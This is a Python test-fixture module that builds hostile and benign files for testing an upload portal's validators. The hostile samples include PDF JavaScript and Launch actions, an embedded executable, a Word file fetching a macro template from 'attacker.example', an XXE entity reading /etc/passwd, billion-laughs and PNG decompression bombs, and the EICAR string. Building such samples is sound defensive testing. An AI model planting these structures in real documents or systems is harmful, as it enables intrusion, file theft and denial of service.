"""Files made at test time: hostile ones the portal must refuse and ordinary ones it must accept.

Nothing here is malware: the "attacks" are structures (a script action, a zip bomb's ratio, an
entity declaration) that the checks must recognise, and EICAR is assembled from parts at run time.
"""

import gzip
import io
import struct
import zipfile

import pikepdf
from PIL import Image

from tests.applications.test_validators import PDF

STAMP = (2026, 1, 1, 0, 0, 0)
CT_NS = "http://schemas.openxmlformats.org/package/2006/content-types"
REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
DOCX_MAIN = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
DOCM_MAIN = "application/vnd.ms-word.document.macroEnabled.main+xml"
DOC_XML = (
    '<?xml version="1.0" encoding="UTF-8"?><w:document xmlns:w="http://schemas.openxmlformats.org/'
    'wordprocessingml/2006/main"><w:body><w:p><w:r><w:t>Plan</w:t></w:r></w:p></w:body></w:document>'
)


def eicar() -> bytes:
    """The EICAR test string, assembled here so that no file in the repository holds it."""
    return b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-" + b"TEST-FILE!$H+H*"


# --- PDF ----------------------------------------------------------------------------------------


def _saved(document: pikepdf.Pdf, **options) -> bytes:
    buffer = io.BytesIO()
    document.save(buffer, deterministic_id=True, **options)
    return buffer.getvalue()


def pdf_with(change, **options) -> bytes:
    document = pikepdf.open(io.BytesIO(PDF))
    change(document)
    return _saved(document, **options)


def js_action(document, script="app.alert(1)"):
    return pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String(script))


def _names_javascript(document):
    action = document.make_indirect(js_action(document))
    document.Root.Names = pikepdf.Dictionary(
        JavaScript=pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("a"), action]))
    )


def _open_action_js(document):
    document.Root.OpenAction = js_action(document)


def _open_action_goto(document):
    document.Root.OpenAction = pikepdf.Array([document.pages[0].obj, pikepdf.Name.Fit])


def _page_additional_actions(document):
    document.pages[0].obj.AA = pikepdf.Dictionary(
        O=pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.Array([0, pikepdf.Name.Fit]))
    )


def _annotation(document, **entries):
    annotation = document.make_indirect(
        pikepdf.Dictionary(Type=pikepdf.Name.Annot, Rect=pikepdf.Array([0, 0, 10, 10]), **entries)
    )
    document.pages[0].obj.Annots = pikepdf.Array([annotation])


def _launch(document):
    _annotation(
        document,
        Subtype=pikepdf.Name.Link,
        A=pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("calc.exe")),
    )


def _widget_js(document):
    _annotation(document, Subtype=pikepdf.Name.Widget, A=js_action(document))


def _embedded_file(document):
    document.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(document, b"MZ fake")


def _file_attachment_annotation(document):
    _annotation(document, Subtype=pikepdf.Name.FileAttachment)


def _xfa(document):
    document.Root.AcroForm = pikepdf.Dictionary(
        Fields=pikepdf.Array(), XFA=document.make_stream(b"<xdp:xdp/>")
    )


def encrypted_pdf(user: str) -> bytes:
    document = pikepdf.open(io.BytesIO(PDF))
    buffer = io.BytesIO()
    document.save(buffer, encryption=pikepdf.Encryption(user=user, owner="owner-secret"))
    return buffer.getvalue()


def pdf_without_pages() -> bytes:
    return _saved(pikepdf.new())


# --- Office -------------------------------------------------------------------------------------


def content_types(*overrides: tuple[str, str]) -> str:
    parts = "".join(f'<Override PartName="{p}" ContentType="{t}"/>' for p, t in overrides)
    return (
        f'<?xml version="1.0" encoding="UTF-8"?><Types xmlns="{CT_NS}">'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f"{parts}</Types>"
    )


def zipped(members: list, *, compression=zipfile.ZIP_DEFLATED) -> bytes:
    """members: (name or ZipInfo, bytes or str)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in members:
            info = name if isinstance(name, zipfile.ZipInfo) else zipfile.ZipInfo(name, STAMP)
            info.compress_type = compression
            archive.writestr(info, data)
    return buffer.getvalue()


def docx(*extra, main=DOCX_MAIN, document_xml=DOC_XML) -> bytes:
    return zipped(
        [
            ("[Content_Types].xml", content_types(("/word/document.xml", main))),
            ("word/document.xml", document_xml),
            *extra,
        ]
    )


def symlink_member() -> zipfile.ZipInfo:
    info = zipfile.ZipInfo("word/link.xml", STAMP)
    info.create_system = 3  # unix
    info.external_attr = (0o120777 << 16) | 0
    return info


def encrypted_flag_docx() -> bytes:
    """A zip whose members claim to be encrypted (flag bit 0), as password-protected zips do."""
    data = bytearray(docx())
    # Set the flag in every local header and central directory entry.
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (at := data.find(signature, start)) != -1:
            flags = struct.unpack_from("<H", data, at + offset)[0]
            struct.pack_into("<H", data, at + offset, flags | 1)
            start = at + 4
    return bytes(data)


def external_template_docx() -> bytes:
    rels = (
        f'<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="{REL_NS}">'
        '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        'relationships/attachedTemplate" Target="http://attacker.example/t.dotm" '
        'TargetMode="External"/></Relationships>'
    )
    return docx(("word/_rels/settings.xml.rels", rels))


XXE = (
    '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">&x;'
    "</w:document>"
)
LAUGHS = (
    '<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">'
    '<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]><l>&c;</l>'
)


# --- Images -------------------------------------------------------------------------------------


def image_bytes(image: Image.Image, image_format: str, **options) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, format=image_format, **options)
    return buffer.getvalue()


def huge_png() -> bytes:
    """100 megapixels that compress to a few kilobytes: a decompression bomb."""
    return image_bytes(Image.new("1", (10_000, 10_000)), "PNG", optimize=False)


def png_with_bad_crc() -> bytes:
    data = bytearray(image_bytes(Image.new("RGB", (32, 32), "teal"), "PNG"))
    at = data.find(b"IDAT")
    length = struct.unpack(">I", data[at - 4 : at])[0]
    data[at + 4 + length] ^= 0xFF  # first byte of the chunk's CRC
    return bytes(data)


def truncated(data: bytes) -> bytes:
    return data[: len(data) // 2]


def gzip_bytes() -> bytes:
    return gzip.compress(b"quarterly figures" * 100, mtime=0)


def elf_bytes() -> bytes:
    return b"\x7fELF\x02\x01\x01" + b"\x00" * 9 + b"\x02\x00\x3e\x00" + b"\x00" * 100


def exe_bytes() -> bytes:
    return b"MZ\x90\x00\x03" + b"\x00" * 55 + b"\x80\x00\x00\x00" + b"\x00" * 64 + b"PE\x00\x00"


def zeros(size: int) -> bytes:
    return bytes(size)  # zeros: deflate shrinks them about a thousand times


def corrupt_member(data: bytes, member: str, how: str) -> bytes:
    """Damage one member of a zip: flip a byte of its data ("data"), or claim an unsupported
    compression method ("method", 9 = Deflate64) in both of its headers."""
    data = bytearray(data)
    encoded = member.encode()
    at = data.find(b"PK\x03\x04")
    while at != -1:
        name_length, extra_length = struct.unpack_from("<HH", data, at + 26)
        if data[at + 30 : at + 30 + name_length] == encoded:
            if how == "data":
                data[at + 30 + name_length + extra_length + 2] ^= 0xFF
            else:
                struct.pack_into("<H", data, at + 8, 9)
        at = data.find(b"PK\x03\x04", at + 4)
    at = data.find(b"PK\x01\x02")
    while at != -1 and how == "method":
        name_length = struct.unpack_from("<H", data, at + 28)[0]
        if data[at + 46 : at + 46 + name_length] == encoded:
            struct.pack_into("<H", data, at + 10, 9)
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)
